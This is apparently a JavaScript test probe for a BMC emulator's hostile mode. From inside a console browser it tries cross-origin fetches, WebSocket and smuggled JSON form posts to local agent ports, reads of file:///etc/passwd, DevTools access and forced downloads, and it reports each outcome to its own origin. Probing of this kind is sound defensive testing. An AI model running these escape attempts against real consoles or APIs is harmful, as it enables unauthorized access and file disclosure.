// bmc-emulator hostile mode (see src/hostile.ts): what a BMC's page could try from inside the console's browser.
// Each attempt's outcome goes back to this page's own origin; a "reached" outcome is a hole. Runs once per page.
(() => {
  const cfg = window.__HOSTILE;
  if (!cfg || window.__hostileRan) return;
  window.__hostileRan = true;
  const top_ = window === window.top;
  const page = (top_ ? '' : 'frame:') + location.pathname;
  const T = cfg.timeoutMs;
  let batch = [];
  const send = (body) => fetch('/__hostile/report', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }).catch(() => undefined);
  const flush = () => {
    if (!batch.length) return Promise.resolve();
    const attempts = batch;
    batch = [];
    return send({ page, attempts });
  };
  const note = (kind, target, outcome, detail) => {
    batch.push({ kind, target, outcome, detail: String(detail || '').slice(0, 200) });
    if (batch.length >= 40) void flush();
  };
  const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
  const bounded = (p, ms) => Promise.race([p, sleep(ms).then(() => { throw new Error('timeout'); })]);
  const hostPart = (h) => (h.includes(':') ? `[${h}]` : h);
  const errText = (e) => (e && e.message) || String(e);

  // A frame's name must be set before it is inserted: Chromium does not aim forms at a name given later.
  const hidden = (tag, name) => {
    const el = document.createElement(tag);
    if (name) el.name = name;
    el.style.cssText = 'position:fixed;left:-50px;top:-50px;width:10px;height:10px;opacity:0;pointer-events:none';
    document.body.appendChild(el);
    return el;
  };

  async function fetchCors(base) {
    const url = `${base}/v1/consoles`;
    const c = new AbortController();
    const t = setTimeout(() => c.abort(), T);
    try {
      const r = await fetch(url, { mode: 'cors', signal: c.signal, credentials: 'omit' });
      note('fetch-cors', url, 'reached', `HTTP ${r.status}`);
    } catch (e) {
      note('fetch-cors', url, 'failed', errText(e));
    } finally {
      clearTimeout(t);
    }
  }

  // A resolved no-cors fetch means a server answered: the opaque response hides only its content.
  async function fetchNoCors(base, node) {
    const url = `${base}/v1/consoles/${encodeURIComponent(node)}/urls`;
    const c = new AbortController();
    const t = setTimeout(() => c.abort(), T);
    try {
      await fetch(url, { mode: 'no-cors', method: 'POST', body: '{}', signal: c.signal, headers: { 'content-type': 'text/plain' } });
      note('fetch-no-cors', url, 'reached', 'opaque response');
    } catch (e) {
      note('fetch-no-cors', url, 'failed', errText(e));
    } finally {
      clearTimeout(t);
    }
  }

  function xhr(base) {
    const url = `${base}/v1/consoles`;
    return new Promise((resolve) => {
      const x = new XMLHttpRequest();
      x.timeout = T;
      x.onload = () => { note('xhr', url, 'reached', `HTTP ${x.status}`); resolve(); };
      x.onerror = () => { note('xhr', url, 'failed', 'error'); resolve(); };
      x.ontimeout = () => { note('xhr', url, 'failed', 'timeout'); resolve(); };
      try {
        x.open('GET', url);
        x.send();
      } catch (e) {
        note('xhr', url, 'failed', errText(e));
        resolve();
      }
    });
  }

  // An element that loads (image or script) reached the target; an error is a refusal or an answer of the wrong type.
  function element(kind, tag, url) {
    return new Promise((resolve) => {
      const el = document.createElement(tag);
      const done = (outcome, detail) => { clearTimeout(t); el.remove(); note(kind, url, outcome, detail); resolve(); };
      const t = setTimeout(() => done('failed', 'timeout'), T);
      el.onload = () => done('reached', 'loaded');
      el.onerror = () => done('failed', 'error event');
      el.src = url;
      if (tag === 'img') el.style.display = 'none';
      document.head.appendChild(el);
    });
  }

  function websocket(wsBase, node) {
    const url = `${wsBase}/websockify?node=${encodeURIComponent(node)}&token=hostile-page-guess`;
    return new Promise((resolve) => {
      let ws;
      let settled = false;
      const finish = (outcome, detail) => {
        if (settled) return;
        settled = true;
        clearTimeout(t);
        note('websocket', url, outcome, detail);
        try { ws && ws.close(); } catch (e) { /* closing a socket that never opened */ }
        resolve();
      };
      const t = setTimeout(() => finish('failed', 'timeout'), T);
      try {
        ws = new WebSocket(url);
      } catch (e) {
        finish('failed', errText(e));
        return;
      }
      ws.onopen = () => finish('reached', 'open');
      ws.onerror = () => finish('failed', 'error');
      ws.onclose = (ev) => finish('failed', `closed ${ev.code}`);
    });
  }

  // A cross-origin form's answer is invisible to the page: only the target can tell whether it arrived. The frame
  // stays until the submission ends, since a form whose target frame is gone opens a new window instead.
  async function formPost(base, node) {
    const url = `${base}/v1/consoles/${encodeURIComponent(node)}/urls`;
    const name = `hostile-form-${Math.random().toString(36).slice(2)}`;
    const frame = hidden('iframe', name);
    await sleep(50); // the frame's own about:blank load comes first
    await new Promise((resolve) => {
      const form = document.createElement('form');
      form.method = 'POST';
      form.enctype = 'text/plain';
      form.action = url;
      form.target = name;
      const input = document.createElement('input');
      input.type = 'hidden';
      input.name = '{"node":"x","pad":"';
      input.value = '"}';
      form.appendChild(input);
      document.body.appendChild(form);
      const done = (detail) => { clearTimeout(t); form.remove(); frame.remove(); note('form-text-plain', url, 'unknown', detail); resolve(); };
      const t = setTimeout(() => done('no load event'), T);
      frame.onload = () => done('frame loaded (an error page loads too)');
      try {
        form.submit();
      } catch (e) {
        done(errText(e));
      }
    });
  }

  async function pool(tasks, width) {
    let i = 0;
    const worker = async () => {
      while (i < tasks.length) {
        const task = tasks[i++];
        try {
          await task();
        } catch (e) {
          // one attempt's own failure must not stop the rest
        }
      }
    };
    await Promise.all(Array.from({ length: width }, worker));
  }

  function frameTry(kind, url) {
    return new Promise((resolve) => {
      const frame = hidden('iframe');
      const done = (outcome, detail) => { clearTimeout(t); frame.remove(); note(kind, url, outcome, detail); resolve(); };
      const t = setTimeout(() => done('unknown', 'no load event'), T);
      frame.onload = () => {
        let text = null;
        try {
          text = frame.contentDocument && frame.contentDocument.body ? frame.contentDocument.body.innerText : null;
        } catch (e) {
          text = null;
        }
        if (text && /root:|DevTools|inspect/i.test(text)) done('reached', text.slice(0, 80));
        else done('unknown', 'frame loaded, content not readable');
      };
      frame.src = url;
    });
  }

  // A window counts when it is real and still open 2 s later: a console may let a page with a user activation open
  // one (a click, or a page.evaluate of its automation) and close it at once.
  async function openWindow(kind, url) {
    let w = null;
    try {
      w = window.open(url, '_blank');
    } catch (e) {
      note(kind, url, 'failed', errText(e));
      return;
    }
    // A real window is its own `window`; a console that catches window.open for a vendor script hands back a stand-in.
    let real = false;
    try {
      real = !!w && w.window === w;
    } catch (e) {
      real = true; // a cross-origin window throws on some reads: still a window
    }
    if (!real) {
      note(kind, url, 'failed', w ? 'window.open returned a stand-in, not a window' : 'window.open returned null');
      return;
    }
    await sleep(2000);
    if (w.closed) {
      note(kind, url, 'failed', 'window.open returned a window; the console closed it within 2 s');
      return;
    }
    note(kind, url, 'reached', 'window.open returned a window, still open after 2 s');
    try { w.close(); } catch (e) { /* already gone */ }
  }

  // An https page's form POST to plain http: Chromium puts its "not secure" warning page in the form's target, the
  // page itself (top) or a new window (_blank). The address never resolves: the warning comes before any request.
  const INSECURE_FORM = 'http://bmc-hostile-form.invalid/__hostile/form';
  function insecureForm(target) {
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = INSECURE_FORM;
    form.target = target;
    const input = document.createElement('input');
    input.type = 'hidden';
    input.name = 'hostile';
    input.value = '1';
    form.appendChild(input);
    document.body.appendChild(form);
    form.submit();
    form.remove();
  }

  async function local() {
    try {
      const r = await bounded(fetch('file:///etc/passwd'), T);
      const text = await r.text();
      note('file-fetch', 'file:///etc/passwd', /root:/.test(text) ? 'reached' : 'failed', `read ${text.length} bytes`);
    } catch (e) {
      note('file-fetch', 'file:///etc/passwd', 'failed', errText(e));
    }
    await frameTry('file-frame', 'file:///etc/passwd');
    await openWindow('file-window', 'file:///etc/passwd');
    await openWindow('window-open', `${location.origin}/__hostile/popup`);
    if (location.protocol === 'https:') {
      try {
        insecureForm('_blank');
        note('form-insecure-window', INSECURE_FORM, 'unknown', 'submitted to a new window; a window is for the screen to show');
      } catch (e) {
        note('form-insecure-window', INSECURE_FORM, 'failed', errText(e));
      }
    }
    // The download: an anchor with the download attribute, and an attachment loaded into a frame.
    const a = document.createElement('a');
    a.href = '/__hostile/download?via=anchor';
    a.download = 'hostile.txt';
    document.body.appendChild(a);
    a.click();
    a.remove();
    note('download-anchor', a.href, 'unknown', 'clicked; a saved file is for the console disk to show');
    const f = hidden('iframe');
    f.src = '/__hostile/download?via=attachment';
    setTimeout(() => f.remove(), T);
    note('download-attachment', `${location.origin}/__hostile/download?via=attachment`, 'unknown', 'loaded into a frame');
    // DevTools: what a page can try (a keyboard shortcut it synthesises, devtools:// and chrome:// URLs, the remote
    // debugging port, which the port guesses cover); docked DevTools would shrink the page's inner size.
    const before = [window.outerWidth - window.innerWidth, window.outerHeight - window.innerHeight];
    for (const init of [{ key: 'F12', code: 'F12' }, { key: 'I', code: 'KeyI', ctrlKey: true, shiftKey: true }, { key: 'J', code: 'KeyJ', ctrlKey: true, shiftKey: true }])
      document.dispatchEvent(new KeyboardEvent('keydown', { ...init, bubbles: true }));
    await sleep(1000);
    const after = [window.outerWidth - window.innerWidth, window.outerHeight - window.innerHeight];
    note('devtools-keys', 'F12, Ctrl+Shift+I, Ctrl+Shift+J', after[0] > before[0] + 50 || after[1] > before[1] + 50 ? 'reached' : 'failed', `chrome ${before} -> ${after}`);
    await openWindow('devtools-window', 'devtools://devtools/bundled/inspector.html');
    await frameTry('devtools-frame', 'devtools://devtools/bundled/inspector.html');
    await frameTry('chrome-frame', 'chrome://inspect');
  }

  async function run() {
    await send({ page });
    const tasks = [];
    for (const h of cfg.hosts) {
      for (const port of cfg.ports) {
        const base = `http://${hostPart(h)}:${port}`;
        const node = cfg.nodes[0];
        tasks.push(() => fetchCors(base), () => fetchNoCors(base, node), () => xhr(base), () => element('img', 'img', `${base}/healthz`),
          () => element('script', 'script', `${base}/openapi.json`), () => websocket(`ws://${hostPart(h)}:${port}`, node));
      }
      // Forms navigate frames: aimed at the real ports (agent API, proxy) and the agent's usual port only.
      for (const port of [...cfg.realPorts, 6091]) for (const node of cfg.nodes) tasks.push(() => formPost(`http://${hostPart(h)}:${port}`, node));
    }
    await pool(tasks, 12);
    await flush();
    try {
      await local();
    } catch (e) {
      note('file-fetch', 'local attempts', 'unknown', `the local attempts stopped: ${errText(e)}`);
    }
    await flush();
    // A KVM page also shows the login page in a frame, so both kinds of page run in the console.
    if (top_ && document.querySelector('canvas') && !document.getElementById('hostile-login-frame')) {
      const f = hidden('iframe');
      f.id = 'hostile-login-frame';
      f.src = '/';
    }
    // Then the page posts a form to http at itself: "reached" goes out first and stands if the page is replaced (by
    // the warning page, or the answer), since a replaced page reports nothing more.
    if (top_ && location.protocol === 'https:') {
      note('form-insecure-top', INSECURE_FORM, 'reached', 'the page was replaced: no later report');
      await flush();
      try {
        insecureForm('_self');
        await sleep(1500);
        note('form-insecure-top', INSECURE_FORM, 'failed', 'still on the page');
      } catch (e) {
        note('form-insecure-top', INSECURE_FORM, 'failed', errText(e));
      }
      await flush();
    }
    // Last, the page tries to navigate itself to a local file: if that worked the KVM would be gone.
    if (top_) {
      try {
        window.location.assign('file:///etc/passwd');
        await sleep(1500);
        note('file-navigation', 'file:///etc/passwd', 'failed', 'still on the page');
      } catch (e) {
        note('file-navigation', 'file:///etc/passwd', 'failed', errText(e));
      }
    }
    // The last attempts travel with "done", so a page that reports done has reported everything.
    const attempts = batch;
    batch = [];
    await send({ page, attempts, done: true });
  }

  // A viewer's first click on a KVM page is a real user activation: the page opens a window with it, as a BMC page
  // could on any click (reported after "done", when the click comes). Login pages stay out: a vendor script's own
  // click there may be waiting for the BMC's popup.
  if (top_) {
    let clicked = false;
    document.addEventListener('mousedown', () => {
      if (clicked || !document.querySelector('canvas')) return;
      clicked = true;
      void openWindow('window-open-click', `${location.origin}/__hostile/popup?via=click`).then(flush);
    }, { capture: true });
  }

  if (document.readyState === 'loading') document.addEventListener('DOMContentLoaded', () => void run());
  else void run();
})();
